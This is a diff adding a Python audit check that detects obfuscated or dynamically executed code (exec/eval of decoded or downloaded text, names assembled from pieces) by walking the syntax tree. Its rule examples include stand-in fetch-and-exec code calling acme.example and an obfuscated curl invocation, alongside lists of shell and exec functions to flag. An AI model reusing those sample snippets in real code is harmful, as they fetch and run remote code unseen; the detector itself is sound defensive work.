@@ -1,0 +1,311 @@
+"""Python code that hides what it runs, found in its syntax tree."""
+
+import ast
+import base64
+import codecs
+import warnings
+from collections.abc import Iterable, Iterator
+from typing import NamedTuple
+
+from skillpm.audit.checks.encoded import COMMAND, decompress
+from skillpm.audit.finding import AuditFinding
+from skillpm.audit.rule import Example, Rule
+from skillpm.audit.source_file import SourceFile, excerpt
+
+# Of a module, in characters: the tree of a larger one takes too much memory.
+MAX_SOURCE = 400_000
+MAX_FOLDED = 20_000
+MAX_DEPTH = 60
+EVALUATORS = frozenset(["exec", "eval"])
+IMPORTERS = frozenset(["__import__", "builtins.__import__", "importlib.import_module", "import_module"])
+RUNNERS = frozenset(["exec", "eval", "compile", "builtins.exec", "builtins.eval", *IMPORTERS])
+SHELLS = frozenset(
+    ["os.system", "os.popen", "subprocess.run", "subprocess.Popen", "subprocess.call", "subprocess.check_output"]
+)
+DECODERS = frozenset(
+    (
+        *("b64decode", "urlsafe_b64decode", "b32decode", "b16decode", "b85decode", "a85decode", "decodebytes"),
+        *("unhexlify", "fromhex", "decompress", "a2b_base64", "a2b_hex"),
+    )
+)
+# `json.loads` decodes data, `marshal.loads` code.
+CODE_LOADERS = frozenset(["marshal", "pickle", "dill", "cloudpickle"])
+RECEIVERS = frozenset(["urlopen", "recv", "recvfrom"])
+REQUESTS = frozenset(["get", "post", "request"])
+CLIENTS = frozenset(
+    ["requests", "httpx", "urllib", "urllib3", "session", "client", "http", "sock", "socket", "s", "request", "conn"]
+)
+ASSEMBLED_NAMES = frozenset(
+    (
+        *("exec", "eval", "system", "popen", "__import__", "compile", "os", "subprocess", "builtins", "Popen"),
+        *("socket", "ctypes"),
+    )
+)
+
+RULES = (
+    Rule(
+        id="dynamic-code",
+        severity="high",
+        title="Runs text as code",
+        reason="`exec` and `eval` run what was decoded or downloaded, which nobody could review. High where the text "
+        "is decoded or comes from the network; low where it comes from elsewhere, since an agent may put anything "
+        "there.",
+        remedy="Write the code into a module; parse data with `json` or `ast.literal_eval`.",
+        bad=Example(
+            text=(
+                "import base64, requests\ncode = "
+                "requests.get('https://acme.example/x').text\nexec(base64.b64decode(code))\n"
+            ),
+            path="scripts/run.py",
+        ),
+        good=Example(text="import ast\nprint(ast.literal_eval('[1, 2]'))\n", path="scripts/run.py"),
+    ),
+    Rule(
+        id="obfuscated-code",
+        severity="high",
+        title="Code that is written so that it cannot be read",
+        reason="Names and texts that are put together from pieces, packed JavaScript and renamed identifiers keep "
+        "reviewers and scanners from seeing what runs.",
+        remedy="Ship the source as it was written.",
+        bad=Example(
+            text="import os\ngetattr(os, 'sys' + 'tem')('cu' + 'rl https://acme.example/a')\n", path="scripts/run.py"
+        ),
+        good=Example(text="import os\nprint(getattr(os, 'name'))\n", path="scripts/run.py"),
+    ),
+)
+
+
+class _Taint(NamedTuple):
+    """Where the value of an expression comes from."""
+
+    is_decoded: bool = False
+    is_remote: bool = False
+
+
+CLEAN = _Taint()
+
+
+def check_python(file: SourceFile) -> Iterator[AuditFinding]:
+    """Yield what a Python file runs that is decoded, downloaded or put together."""
+    if file.kind != "python" or not file.text or len(file.text) > MAX_SOURCE:
+        return
+    if not any(word in file.text for word in ("exec", "eval", "import", "getattr", "compile")):
+        return
+    try:
+        with warnings.catch_warnings():
+            warnings.simplefilter("ignore")
+            tree = ast.parse(file.text)
+        yield from _Reader(file).read(tree)
+    except (SyntaxError, ValueError, RecursionError, MemoryError):
+        return
+
+
+class _Reader:
+    def __init__(self, file: SourceFile) -> None:
+        self.file = file
+        self.tainted: dict[str, _Taint] = {}
+        self.constants: dict[str, str] = {}
+
+    def read(self, tree: ast.Module) -> Iterator[AuditFinding]:
+        nodes = [node for node in ast.walk(tree) if isinstance(node, ast.Call | ast.Assign | ast.BinOp | ast.JoinedStr)]
+        nodes.sort(key=lambda node: (node.lineno, node.col_offset))
+        reported: set[int] = set()
+        for node in nodes:
+            if isinstance(node, ast.Assign):
+                self._assign(node)
+        for node in nodes:
+            if isinstance(node, ast.Call):
+                yield from self._check_call(node)
+            if not isinstance(node, ast.Assign) and node.lineno not in reported:
+                text = self.fold(node)
+                if text is not None and COMMAND.search(text) and not self._is_written(text):
+                    reported.add(node.lineno)
+                    message = f"this code puts together {excerpt(text, 120)}"
+                    yield self.file.finding("obfuscated-code", "high", node.lineno, message)
+
+    def _is_written(self, text: str) -> bool:
+        """Return whether the source has this text as it is, line by line: a long message in pieces hides nothing."""
+        return all(match[0].lower() in self.file.lower for match in COMMAND.finditer(text))
+
+    def _assign(self, node: ast.Assign) -> None:
+        taint = self.taint(node.value)
+        text = self.fold(node.value)
+        for target in node.targets:
+            if isinstance(target, ast.Name):
+                if taint != CLEAN:
+                    self.tainted[target.id] = taint
+                if text is not None:
+                    self.constants[target.id] = text
+
+    def _check_call(self, node: ast.Call) -> Iterator[AuditFinding]:
+        name = dotted(node.func)
+        if not node.args:
+            return
+        if name in SHELLS or name in RUNNERS or name.endswith("import_module"):
+            taint = self.taint(node.args[0])
+            if taint != CLEAN:
+                origin = "what comes from the network" if taint.is_remote else "what it decodes"
+                yield self.file.finding("dynamic-code", "high", node.lineno, f"`{name}` runs {origin}")
+            elif name in EVALUATORS and not isinstance(node.args[0], ast.Constant):
+                yield self.file.finding(
+                    "dynamic-code", "low", node.lineno, f"`{name}` runs text that is not in this file"
+                )
+        looked_up = node.args[1:2] if name == "getattr" else node.args[:1] if name in IMPORTERS else []
+        for argument in looked_up:
+            text = None if isinstance(argument, ast.Constant) else self.fold(argument)
+            if text in ASSEMBLED_NAMES:
+                yield self.file.finding("obfuscated-code", "high", node.lineno, f"gets `{text}` by a name in pieces")
+
+    def taint(self, node: ast.expr, depth: int = 0) -> _Taint:
+        """Return where the value of an expression comes from, as far as this file shows it."""
+        if depth > MAX_DEPTH:
+            return CLEAN
+        match node:
+            case ast.Name(id=name):
+                return self.tainted.get(name, CLEAN)
+            case ast.Attribute(value=value) | ast.Subscript(value=value) | ast.Await(value=value):
+                return self.taint(value, depth + 1)
+            case ast.List(elts=items) | ast.Tuple(elts=items):
+                return _union(self.taint(item, depth + 1) for item in items[:20])
+            case ast.BinOp(left=left, right=right):
+                return _union(self.taint(item, depth + 1) for item in (left, right))
+        if isinstance(node, ast.JoinedStr):
+            return _union(
+                self.taint(item.value, depth + 1) for item in node.values if isinstance(item, ast.FormattedValue)
+            )
+        if not isinstance(node, ast.Call):
+            return CLEAN
+        own = _Taint(is_decoded=is_decoder(node), is_remote=is_request(node))
+        inner = [node.func.value] if isinstance(node.func, ast.Attribute) else []
+        return _union([own, *(self.taint(item, depth + 1) for item in [*inner, *node.args[:10]])])
+
+    def fold(self, node: ast.expr, depth: int = 0) -> str | None:
+        """Return the text of an expression of constants; None if it is not one, or a plain constant."""
+        if depth > MAX_DEPTH:
+            return None
+        match node:
+            case ast.Constant(value=str(text)):
+                return text[:MAX_FOLDED]
+            case ast.Constant(value=bytes(data)):
+                return data[:MAX_FOLDED].decode("latin-1")
+            case ast.Name(id=name):
+                return self.constants.get(name)
+            case ast.BinOp(op=ast.Add(), left=left, right=right):
+                first, second = self.fold(left, depth + 1), self.fold(right, depth + 1)
+                return None if first is None or second is None else (first + second)[:MAX_FOLDED]
+            case ast.JoinedStr(values=values):
+                return self._join("", values, depth)
+            case ast.FormattedValue(value=value):
+                return self.fold(value, depth + 1)
+            case ast.Subscript(
+                value=value,
+                slice=ast.Slice(lower=None, upper=None, step=ast.UnaryOp(op=ast.USub(), operand=ast.Constant(value=1))),
+            ):
+                folded = self.fold(value, depth + 1)
+                return None if folded is None else folded[::-1]
+            case ast.Call():
+                return self._fold_call(node, depth)
+        return None
+
+    def _fold_call(self, node: ast.Call, depth: int) -> str | None:
+        name = dotted(node.func)
+        short = name.rpartition(".")[2]
+        arguments = [self.fold(argument, depth + 1) for argument in node.args[:3]]
+        inner = self.fold(node.func.value, depth + 1) if isinstance(node.func, ast.Attribute) else None
+        match short, node.args:
+            case "chr", [ast.Constant(value=int(code))] if 0 < code < 0x110000:  # noqa: PLR2004
+                return chr(code)
+            case "join", [ast.List(elts=items) | ast.Tuple(elts=items)] if inner is not None:
+                return self._join(inner, items, depth)
+            case "join", [ast.Call(func=ast.Name(id="map"), args=[ast.Name(id="chr"), ast.List(elts=items)])]:
+                codes = [item.value for item in items if isinstance(item, ast.Constant) and isinstance(item.value, int)]
+                return "".join(chr(code) for code in codes if 0 < code < 0x110000)  # noqa: PLR2004
+            case (("bytes" | "bytearray"), [ast.List(elts=items)]):
+                codes = [item.value for item in items if isinstance(item, ast.Constant) and isinstance(item.value, int)]
+                return "".join(chr(code) for code in codes if 0 <= code < 256)  # noqa: PLR2004
+            case "replace", [_, _] if inner is not None and arguments[0] and arguments[1] is not None:
+                return inner.replace(arguments[0], arguments[1])[:MAX_FOLDED]
+            case (("decode" | "encode" | "strip" | "lower"), []) if inner is not None:
+                return inner.lower() if short == "lower" else inner
+            case "decode", [_] if inner is not None and arguments[0] in {"utf-8", "utf8", "ascii", "latin-1"}:
+                return inner
+            case "decode", [_, *_] if (
+                name == "codecs.decode" and arguments[0] is not None and arguments[-1] in {"rot13", "rot_13"}
+            ):
+                return codecs.decode(arguments[0], "rot13")
+            case (
+                (
+                    "b64decode"
+                    | "urlsafe_b64decode"
+                    | "decodebytes"
+                    | "unhexlify"
+                    | "fromhex"
+                    | "decompress"
+                    | "b32decode"
+                    | "b85decode"
+                ),
+                [_, *_],
+            ):
+                return None if arguments[0] is None else _decode(short, arguments[0])
+        return None
+
+    def _join(self, separator: str, items: list[ast.expr], depth: int) -> str | None:
+        texts = [self.fold(item, depth + 1) for item in items[:2_000]]
+        known = [text for text in texts if text is not None]
+        return separator.join(known)[:MAX_FOLDED] if len(known) == len(texts) else None
+
+
+def _decode(name: str, text: str) -> str | None:
+    data = text.encode("latin-1", "ignore")
+    try:
+        match name:
+            case "decompress":
+                data = decompress(data)
+            case "unhexlify" | "fromhex":
+                data = bytes.fromhex(text)
+            case "b32decode":
+                data = base64.b32decode(data)
+            case "b85decode":
+                data = base64.b85decode(data)
+            case _:
+                data = base64.urlsafe_b64decode(data.replace(b"+", b"-").replace(b"/", b"_") + b"==")
+    except ValueError:
+        return None
+    return data[:MAX_FOLDED].decode("latin-1")
+
+
+def is_decoder(node: ast.Call) -> bool:
+    """Return whether a call decodes text to code or commands: not `json.loads`, but `marshal.loads`."""
+    name = dotted(node.func)
+    first, _, last = name.partition(".")[0], "", name.rpartition(".")[2]
+    if last == "decode":
+        codec = node.args[-1] if node.args else None
+        return isinstance(codec, ast.Constant) and codec.value in {"rot13", "rot_13", "hex", "base64"}
+    return last in DECODERS if last != "loads" else first in CODE_LOADERS
+
+
+def is_request(node: ast.Call) -> bool:
+    """Return whether a call returns what comes from the network."""
+    name = dotted(node.func)
+    last = name.rpartition(".")[2]
+    return last in RECEIVERS or (last in REQUESTS and name.partition(".")[0] in CLIENTS)
+
+
+def _union(taints: Iterable[_Taint]) -> _Taint:
+    is_decoded = is_remote = False
+    for taint in taints:
+        is_decoded, is_remote = is_decoded or taint.is_decoded, is_remote or taint.is_remote
+    return _Taint(is_decoded=is_decoded, is_remote=is_remote)
+
+
+def dotted(node: ast.expr) -> str:
+    """Return a name with its attributes, `os.path.join`; of other expressions only the attributes."""
+    parts: list[str] = []
+    while isinstance(node, ast.Attribute | ast.Call | ast.Subscript):
+        if isinstance(node, ast.Attribute):
+            parts.append(node.attr)
+            node = node.value
+        else:
+            node = node.func if isinstance(node, ast.Call) else node.value
+    parts.append(node.id if isinstance(node, ast.Name) else "")
+    return ".".join(reversed(parts))
